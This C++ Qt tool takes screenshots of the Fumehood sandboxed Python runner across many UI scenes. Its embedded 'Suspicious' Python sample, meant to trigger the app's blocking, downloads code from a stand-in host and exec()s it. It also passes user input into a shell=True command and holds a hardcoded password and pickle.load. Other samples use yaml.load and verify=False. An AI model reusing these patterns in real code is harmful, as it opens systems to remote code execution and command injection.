// SPDX-FileCopyrightText: 2026 The Fumehood authors
// SPDX-License-Identifier: GPL-3.0-or-later

// Pictures of the real window after real runs, light and dark, in two sizes.
// Usage: screenshots FOLDER [SCENE…|all]; without a scene those that the README shows.

#include "tests/support/engineaccess.h"
#include "tests/support/fakeengine.h"
#include "tests/support/temphistory.h"
#include "tests/support/windowfixture.h"

#include "ui/actions.h"
#include "ui/enginebar.h"
#include "ui/findings/blockbar.h"
#include "ui/history/historymodel.h"
#include "ui/history/historypanel.h"
#include "ui/imagebar.h"
#include "ui/imagewatch.h"
#include "ui/leftoverbar.h"
#include "ui/limits/limitspanel.h"
#include "ui/limits/sandboxpanel.h"
#include "ui/outsidechangebar.h"
#include "ui/plurals.h"

#include <QApplication>
#include <QDialog>
#include <QDir>
#include <QFile>
#include <QLineEdit>
#include <QPushButton>
#include <QToolButton>
#include <QTreeView>

using namespace Qt::StringLiterals;
using namespace Fumehood;
using namespace Fumehood::Testing;

namespace {

constexpr QSize Sizes[] = {{1280, 800}, {1920, 1080}};

/// The window as somebody left it, and the way to its picture.
class Stage
{
public:
    explicit Stage(Theme::Mode mode) : m_mode(mode) {}

    WindowFixture fixture{[this] { return m_find(); }};

    /// With this engine instead of the real one; nothing is waited for.
    void openWith(const EngineEndpoint &engine, const QByteArray &source)
    {
        m_find = [engine] { return Result<EngineEndpoint>(engine); };
        m_isReal = false;
        begin(source);
    }

    bool isReal() const { return m_isReal; }

    void open(const QByteArray &source)
    {
        begin(source);
        wait([this] { return fixture.parts->controller.isWarm(); }, "The engine made no container ready.");
        QObject::connect(&fixture.parts->controller, &RunController::event, fixture.window.get(), [this](const RunEvent &event) {
            m_finished = m_finished || std::holds_alternative<Finished>(event);
        });
    }

    void run()
    {
        m_finished = false;
        fixture.runButton()->click();
        wait([this] { return m_finished && fixture.parts->controller.isWarm(); }, "A run did not end.");
    }

    void press(Qt::Key key, Qt::KeyboardModifiers modifiers) const { QTest::keyClick(fixture.window.get(), key, modifiers); }

    void pane(int number) const { press(Qt::Key(Qt::Key_0 + number), Qt::AltModifier); }

    static void wait(const std::function<bool()> &condition, const char *complaint)
    {
        if (!QTest::qWaitFor(condition, 30'000))
            qFatal("%s", complaint);
    }

private:
    void begin(const QByteArray &source)
    {
        fixture.start();
        fixture.parts->theme.setMode(m_mode);
        fixture.setSource(source);
        fixture.editor().goTo(1);
        fixture.editor().setScrollWidth(1); // the sample before had longer lines
    }

    Theme::Mode m_mode;
    EngineWatch::Find m_find = [] { return findEngine(); };
    bool m_isReal = true;
    bool m_finished = false;
};

QByteArray sample(const QString &name)
{
    QFile program(u":/samples/"_s + name);
    if (!program.open(QIODevice::ReadOnly))
        qFatal("The sample is not there.");
    return program.readAll();
}

const QByteArray Suspicious = R"(#!/usr/bin/env python3
"""Sends the week's figures to the archive."""
import base64
import hashlib
import os
import pickle
import subprocess
import urllib.request

PASSWORD = "correct-horse-battery-staple"

def checksum(data):
    return hashlib.md5(data).hexdigest()

def load(path):
    with open(path, "rb") as file:
        return pickle.load(file)

def archive(name):
    subprocess.run("tar czf /tmp/week.tgz " + name, shell=True)

def update():
    code = urllib.request.urlopen("http://203.0.113.9/update").read()
    exec(base64.b64decode(code))

archive(input("Which file? "))
update()
)";

const QByteArray LongTexts = "words = 'ein Satz ohne Ende, der so lang ist, dass ihn kein Fenster in einer Zeile zeigt, " + QByteArray(300, '=') + "'\n"
    "import sys\nfor i in range(40):\n    print(i, words)\nprint('schlimm: ' + words, file=sys.stderr)\n"
    "raise ValueError('ein Fehler mit einer sehr langen Erklärung, ' * 12)\n";

void workbench(Stage &stage)
{
    stage.open(sample(u"curves.py"_s));
    stage.run();
}

void findings(Stage &stage)
{
    stage.open(Suspicious);
    stage.fixture.runButton()->click();
    Stage::wait([&] { return stage.fixture.child<BlockBar>("block-bar")->isVisible(); }, "The program was not held back.");
    stage.pane(1);
    auto *list = stage.fixture.child<QTreeView>("problems-list");
    list->setFocus();
}

void failure(Stage &stage)
{
    stage.open(sample(u"traceback.py"_s));
    stage.run();
    stage.pane(1);
}

void outOfMemory(Stage &stage)
{
    stage.open("blocks = []\nwhile True:\n    blocks.append(bytearray(8 << 20))\n    print(len(blocks) * 8, 'MiB', flush=True)\n");
    stage.run();
}

void history(Stage &stage)
{
    for (const QString &name : {u"hello.py"_s, u"curves.py"_s, u"traceback.py"_s}) {
        if (stage.fixture.window)
            stage.fixture.setSource(sample(name));
        else
            stage.open(sample(name));
        stage.run();
    }
    stage.fixture.setSource("import random\nprint('number', random.random())\n");
    stage.run();
    stage.run();
    stage.pane(4);
    auto &panel = *stage.fixture.window->findChild<HistoryPanel *>();
    Stage::wait([&] { return panel.model().rowCount() == 5; }, "The runs are not in the history.");
    panel.view().selectionModel()->select(QItemSelection(panel.model().index(0, 0), panel.model().index(1, HistoryModel::ColumnCount - 1)),
                                          QItemSelectionModel::Select);
}

void difference(Stage &stage)
{
    history(stage);
    for (QAction *action : stage.fixture.window->findChild<HistoryPanel *>()->view().actions()) {
        if (action->text() == HistoryPanel::tr("Compare"))
            action->trigger();
    }
    Stage::wait([&] { return stage.fixture.window->findChild<QDialog *>(); }, "There is no comparison.");
}

void images(Stage &stage)
{
    stage.open(sample(u"hello.py"_s));
    for (QAction *action : stage.fixture.window->actions()) {
        if (action->text().contains(u"Images"_s))
            action->trigger();
    }
    Stage::wait([&] { return stage.fixture.window->findChild<QDialog *>(); }, "There is no list of images.");
    QTest::qWait(500); // the engine's answer
}

void sharing(Stage &stage)
{
    stage.open("token = 'ghp_' 'x'\npassword = 'Zr4#pL9w-otter'\n\ndef divide(a, b):\n    return a / b\n\nprint(divide(1, 0))\n");
    stage.run();
    stage.fixture.child<QToolButton>("console-share")->click();
    Stage::wait([&] { return stage.fixture.child<QPushButton>("share-copy") && stage.fixture.child<QPushButton>("share-copy")->isEnabled(); }, "There is nothing to share.");
}

void quickFix(Stage &stage)
{
    stage.open("import requests\nimport yaml\n\nwith open('settings.yaml') as file:\n    settings = yaml.load(file)\n"
               "reply = requests.get(settings['url'], verify=False, timeout=3)\nprint(reply.status_code)\n");
    stage.pane(1);
    auto *list = stage.fixture.child<QTreeView>("problems-list");
    Stage::wait([&] { return list->model()->rowCount() > 1; }, "Nothing was found.");
    stage.fixture.child<QLineEdit>("problems-filter")->setText(u"rule:yaml"_s);
    list->setCurrentIndex(list->model()->index(0, 0));
}

template <int Command>
void dialog(Stage &stage)
{
    stage.open(sample(u"hello.py"_s));
    (*stage.fixture.window->findChild<Actions *>())[Actions::Id(Command)]->trigger();
    Stage::wait([&] { return stage.fixture.window->findChild<QDialog *>(); }, "There is no dialog.");
}

void isolation(Stage &stage)
{
    stage.open(sample(u"hello.py"_s));
    stage.run();
    stage.pane(5);
    stage.fixture.window->sandbox().limits().setExpanded(true);
}

void empty(Stage &stage)
{
    stage.open("");
    stage.pane(4);
}

void longTexts(Stage &stage)
{
    stage.open(LongTexts);
    stage.run();
    stage.pane(3);
}

/// Docker is not installed, nor is anything else.
void noEngine(Stage &stage)
{
    stage.openWith({}, sample(u"hello.py"_s));
    Stage::wait([&] { return stage.fixture.child<EngineBar>("engine-bar")->isVisible(); }, "Nobody says that there is no engine.");
}

/// Docker is not installed, Podman is.
void podmanInstead(Stage &stage)
{
    static const QTemporaryDir programs;
    QFile program(programs.filePath(u"podman"_s));
    if (!program.open(QIODevice::WriteOnly) || !program.setPermissions(QFile::ReadOwner | QFile::ExeOwner))
        qFatal("There is no place for a program.");
    const QByteArray path = qgetenv("PATH");
    qputenv("PATH", programs.path().toLocal8Bit() + ':' + path);
    noEngine(stage);
    qputenv("PATH", path);
    QFile::remove(program.fileName());
}

void anotherProgram(Stage &stage)
{
    noEngine(stage);
    for (QAction *action : stage.fixture.child<EngineBar>("engine-bar")->actions()) {
        if (action->text() == EngineBar::tr("Choose program…"))
            action->trigger();
    }
}

/// An engine without images.
FakeEngine &bareEngine()
{
    static FakeEngine engine;
    engine.answers["/images/json"] = {200, R"json([{"RepoTags":["python:3.13-slim"]},{"RepoTags":["registry.example.org/course/python:autumn"]}])json"};
    engine.stop();
    engine.start();
    return engine;
}

void noImage(Stage &stage)
{
    stage.openWith(bareEngine().endpoint(), sample(u"hello.py"_s));
    Stage::wait([&] { return stage.fixture.child<ImageBar>("image-bar")->isVisible(); }, "Nobody says that there is no image.");
}

void failedImage(Stage &stage)
{
    noImage(stage);
    auto *bar = stage.fixture.child<ImageBar>("image-bar");
    stage.fixture.window->findChild<ImageWatch *>()->load(u"/media/course/images.tar"_s);
    Stage::wait([&] { return bar->messageType() == KMessageWidget::Error; }, "A file that is not there was read.");
}

void anotherImage(Stage &stage)
{
    noImage(stage);
    (*stage.fixture.window->findChild<Actions *>())[Actions::ChooseImage]->trigger();
    Stage::wait([&] { return stage.fixture.child<QDialog>("image-choice"); }, "Nobody asks for an image.");
}

/// All that can be said at once.
void bars(Stage &stage)
{
    stage.open(sample(u"hello.py"_s));
    stage.fixture.window->openFiles({u"/nowhere/at/all.py"_s});
    stage.fixture.window->reportIncident(u"a key press in CodeEditor"_s, u"vector::_M_range_check"_s);
    auto *leftover = stage.fixture.child<LeftoverBar>("leftover-bar");
    leftover->setPatience(std::chrono::milliseconds(0));
    leftover->expectRemoval(u"fumehood-5ad0c1"_s);
    QFile file(stage.fixture.folder.filePath(u"figures.py"_s));
    if (!file.open(QIODevice::WriteOnly) || file.write("print('of somebody else')\n") < 0)
        qFatal("There is no place for a file.");
    file.close();
    stage.fixture.window->openFiles({file.fileName()});
    stage.fixture.window->findChild<OutsideChangeBar *>()->showChange(stage.fixture.window->tabs().current());
}

void longLine(Stage &stage)
{
    stage.open("table = [" + QByteArray("0x6d, 0x2a, ").repeated(6000) + "]\nprint(len(table))\n");
    QTest::keyClick(&stage.fixture.editor(), Qt::Key_End);
}

void longLineWrapped(Stage &stage)
{
    longLine(stage);
    stage.fixture.parts->settings.setValue(u"wrapLines"_s, true);
    QTest::qWait(200); // lines are broken when there is time
    QTest::keyClick(&stage.fixture.editor(), Qt::Key_Home);
    QTest::keyClick(&stage.fixture.editor(), Qt::Key_End);
}

struct Scene { QString name; void (*play)(Stage &); };

void take(const Scene &scene, Theme::Mode mode, const QString &modeName, const QDir &folder)
{
    Stage stage(mode);
    scene.play(stage);
    MainWindow &window = *stage.fixture.window;
    for (const QSize size : Sizes) {
        window.resize(size);
        QTest::qWait(400); // the docks settle, messages unfold
        const QString suffix = size == Sizes[0] ? QString() : u"-%1x%2"_s.arg(size.width()).arg(size.height());
        QWidget *shown = &window;
        for (QDialog *dialog : window.findChildren<QDialog *>()) {
            if (dialog->isVisible())
                shown = dialog;
        }
        if (!shown->grab().save(folder.filePath(u"%1-%2%3.png"_s.arg(scene.name, modeName, suffix))))
            qFatal("A picture could not be saved.");
    }
    window.close();
    if (stage.isReal())
        (void)QTest::qWaitFor([&] { return containersLeft(stage.fixture.parts->engine) == 0; }, 10'000);
}

} // namespace

int main(int argc, char **argv)
{
    QApplication app(argc, argv);
    QApplication::setStyle(u"fusion"_s);
    Plurals plurals;
    QCoreApplication::installTranslator(&plurals);
    const QStringList arguments = QApplication::arguments();
    const QDir folder(arguments.value(1, u"."_s));
    folder.mkpath(u"."_s);
    const QStringList wanted = arguments.size() > 2 ? arguments.sliced(2) : QStringList{u"workbench"_s, u"findings"_s, u"isolation"_s};
    for (const Scene &scene : {Scene{u"workbench"_s, workbench}, {u"findings"_s, findings}, {u"failure"_s, failure}, {u"memory"_s, outOfMemory},
                               {u"history"_s, history}, {u"difference"_s, difference}, {u"images"_s, images}, {u"isolation"_s, isolation},
                               {u"empty"_s, empty}, {u"sharing"_s, sharing}, {u"quickfix"_s, quickFix}, {u"sessions"_s, dialog<Actions::Sessions>},
                               {u"settings"_s, dialog<Actions::Preferences>}, {u"shortcuts"_s, dialog<Actions::Shortcuts>}, {u"command"_s, dialog<Actions::ShowCommand>}, {u"long"_s, longTexts},
                               {u"noengine"_s, noEngine}, {u"podman"_s, podmanInstead}, {u"program"_s, anotherProgram}, {u"noimage"_s, noImage},
                               {u"failedimage"_s, failedImage}, {u"otherimage"_s, anotherImage}, {u"bars"_s, bars}, {u"longline"_s, longLine}, {u"longlinewrapped"_s, longLineWrapped}}) {
        if (!wanted.contains(scene.name) && !wanted.contains(u"all"_s))
            continue;
        take(scene, Theme::Mode::Light, u"light"_s, folder);
        take(scene, Theme::Mode::Dark, u"dark"_s, folder);
    }
    return 0;
}
